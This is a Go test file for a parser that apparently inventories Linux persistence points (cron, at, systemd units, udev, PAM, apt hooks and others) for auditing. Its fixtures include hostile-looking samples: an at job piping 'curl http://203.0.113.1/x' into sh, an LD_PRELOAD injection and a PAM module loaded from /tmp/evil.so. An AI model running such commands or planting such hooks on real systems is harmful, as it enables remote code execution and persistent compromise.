package schedule

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCrontab(t *testing.T) {
	system := Crontab("# c\nSHELL=/bin/sh\nPATH = /usr/bin\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot www-data /x\n* * * * * broken\n", true)
	want := []Entry{
		{Line: 2, Command: "SHELL=/bin/sh", When: "environment"}, {Line: 3, Command: "PATH = /usr/bin", When: "environment"},
		{4, "cd / && run-parts --report /etc/cron.hourly", "root", "17 * * * *"}, {5, "/x", "www-data", "@reboot"},
	}
	if diff := cmp.Diff(want, system); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	user := Crontab("*/5 * * * * FOO=1 /x -a=b\n@daily y\n", false)
	if diff := cmp.Diff([]Entry{{1, "FOO=1 /x -a=b", "", "*/5 * * * *"}, {2, "y", "", "@daily"}}, user); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	ana := Anacrontab("START_HOURS_RANGE=3-22\n1 5 cron.daily nice run-parts /etc/cron.daily\n@monthly 45 cron.monthly x\n")
	if len(ana) != 3 || ana[1].Command != "nice run-parts /etc/cron.daily" || ana[1].When != "every 1 days" {
		t.Errorf("anacrontab: %+v", ana)
	}
}

func TestAtJob(t *testing.T) {
	got := AtJob("a0000101b8c7a4", `#!/bin/sh
# atrun uid=1000 gid=1000
# mail alice 0
umask 22
HOME=/home/alice; export HOME
cd /home/alice || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER5f1c4f1b'
curl http://203.0.113.1/x | sh
echo done

marcinDELIMITER5f1c4f1b
`)
	want := []Entry{{11, "curl http://203.0.113.1/x | sh; echo done", "1000", "2024-12-03T09:08:00Z"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestUnits(t *testing.T) {
	got := ParseUnit("x.service", "[Unit]\nDescription=x\n[Service]\nUser=www-data\n# c\nExecStartPre=-/bin/mkdir /run/x\nExecStart=/bin/sh -c 'a; \\\n# comment\n  b'\nExecStart=\nEnvironment=LD_PRELOAD=/x.so\n[Install]\nWantedBy=multi-user.target default.target\n")
	want := Unit{
		Execs: []Entry{{6, "-/bin/mkdir /run/x", "www-data", "ExecStartPre"}, {7, "/bin/sh -c 'a;  b'", "www-data", "ExecStart"}},
		User:  "www-data", WantedBy: []string{"multi-user.target", "default.target"},
		Settings: []Entry{{Line: 11, Command: "LD_PRELOAD=/x.so", When: "Environment"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	timer := ParseUnit("x.timer", "[Timer]\nOnCalendar=daily\nOnBootSec=5\n[Install]\nWantedBy=timers.target\n")
	if len(timer.Triggers) != 2 || timer.Triggers[0].Command != "x.service" || timer.Triggers[0].When != "OnCalendar=daily" {
		t.Errorf("timer: %+v", timer)
	}
	for name, want := range map[string]bool{
		"/a/x.service": true, "/a/x.service.d/o.conf": true, "/a/x@.timer": true, "/a/x.mount": false, "/a/x.conf": false, "/a/README": false,
	} {
		if IsUnit(name) != want {
			t.Errorf("%s is a unit: %v", name, !want)
		}
	}
	for command, want := range map[string]string{"-+/bin/x a": "/bin/x", `"/bin/a b" c`: "/bin/a b", "@/bin/x argv0": "/bin/x", "": ""} {
		if got := Program(command); got != want {
			t.Errorf("%q runs %q, want %q", command, got, want)
		}
	}
}

func TestOthers(t *testing.T) {
	for _, c := range []struct {
		name      string
		got, want []Entry
	}{
		{"udev", Udev(`ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \"x\"", PROGRAM="/lib/p"` + "\nENV{X}=\"RUN\"\n"), []Entry{
			{Line: 1, Command: `/bin/sh -c \"x\"`, When: "RUN+="}, {Line: 1, Command: "/lib/p", When: "PROGRAM="},
		}},
		{"pam", PAM("auth [success=1 default=ignore] pam_unix.so nullok\nauth optional pam_exec.so quiet /x\nsession required /tmp/evil.so\n"), []Entry{
			{Line: 2, Command: "pam_exec.so quiet /x", When: "auth"}, {Line: 3, Command: "/tmp/evil.so", When: "session"},
		}},
		{"modprobe", Modprobe("blacklist x\ninstall usb-storage /bin/true\n"), []Entry{{Line: 2, Command: "/bin/true", When: "install usb-storage"}}},
		{"apt", PackageHooks("DPkg::Post-Invoke {\"a\"; \"b || true\"; };\nAPT::Keep \"1\";\nAPT::Update::Pre-Invoke\n{\n  \"c\";\n}\nX \"d\";\n// DPkg::Pre-Invoke \"e\";\npre-invoke=\"f\"\n"), []Entry{
			{Line: 1, Command: "a", When: "DPkg::Post-Invoke"}, {Line: 1, Command: "b || true", When: "DPkg::Post-Invoke"},
			{Line: 5, Command: "c", When: "APT::Update::Pre-Invoke"}, {Line: 9, Command: "f", When: "pre-invoke"},
		}},
		{"sudo", Sudo("Plugin sudoers_policy sudoers.so\nSet disable_coredump false\n"), []Entry{{Line: 1, Command: "sudoers.so", When: "Plugin sudoers_policy"}}},
		{"desktop", Desktop("[Desktop Entry]\nExec=/x %U\nTryExec=y\n"), []Entry{{Line: 2, Command: "/x %U"}}},
		{"script", Script("#!/bin/sh\n\na \\\n b\nc\n"), []Entry{{Line: 3, Command: "a  b"}, {Line: 5, Command: "c"}}},
		{"lines", Lines("# x\n /a.so \n"), []Entry{{Line: 2, Command: "/a.so"}}},
	} {
		if diff := cmp.Diff(c.want, c.got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, diff)
		}
	}
}

func FuzzSchedule(f *testing.F) {
	for _, s := range []string{
		"17 * * * * root x\n@reboot y\nA=b\n", "[Service]\nExecStart=x \\\n y\n", "# atrun uid=0\n}\nx << 'E'\ny\nE\n", `RUN+="a\"b", PROGRAM="c"`,
		"DPkg::Post-Invoke {\"a\"; };\n", "auth [x=1] /a.so\n", "Plugin a b\ninstall x y\n", "\\\n\\",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		u := ParseUnit("x.timer", text)
		all := strings.Count(text, "\n") + 1
		for name, entries := range map[string][]Entry{
			"system": Crontab(text, true), "user": Crontab(text, false), "anacron": Anacrontab(text), "at": AtJob("a0000101b8c7a4", text), "udev": Udev(text),
			"pam": PAM(text), "modprobe": Modprobe(text), "hooks": PackageHooks(text), "sudo": Sudo(text), "desktop": Desktop(text), "script": Script(text),
			"lines": Lines(text), "exec": u.Execs, "trigger": u.Triggers, "setting": u.Settings,
		} {
			last := 0
			for _, e := range entries {
				if e.Line < max(1, last) || e.Line > all {
					t.Errorf("%s: entry %+v after line %d of %d", name, e, last, all)
				}
				last = e.Line
				_ = Program(e.Command)
			}
		}
	})
}
